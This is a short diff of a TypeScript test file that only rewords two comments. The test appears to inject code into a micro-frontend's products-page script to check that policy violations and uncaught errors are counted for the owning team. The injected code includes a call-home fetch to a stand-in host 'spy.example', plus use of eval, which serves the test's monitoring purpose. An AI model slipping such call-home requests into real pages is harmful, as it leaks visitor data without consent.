@@ -6,7 +6,9 @@ import { expect, test } from '../../core/test';
 const version = '6.1.0';
 const label = `mf_content@${version}`;
 
-/** Code that calls home, evaluates text and throws in a timer, in the page of the products alone. */
+/**
+ * Code that makes a foreign request, uses eval and throws in a timer, only on the products page.
+ */
 const planted = (source: string, file: string) =>
   file.includes('_ProductListPage') && file.endsWith('.js')
     ? `fetch('https://spy.example/visitors').catch(() => {});
@@ -47,7 +49,7 @@ test('policy violations and uncaught errors are counted for the team that owns t
     );
   }
 
-  // What is counted goes with the page.
+  // Counts are sent when the page is left.
   await page.goto('about:blank');
   const read = async (path: string) => (await page.request.get(origins.collector + path)).text();
   const figures = async () =>
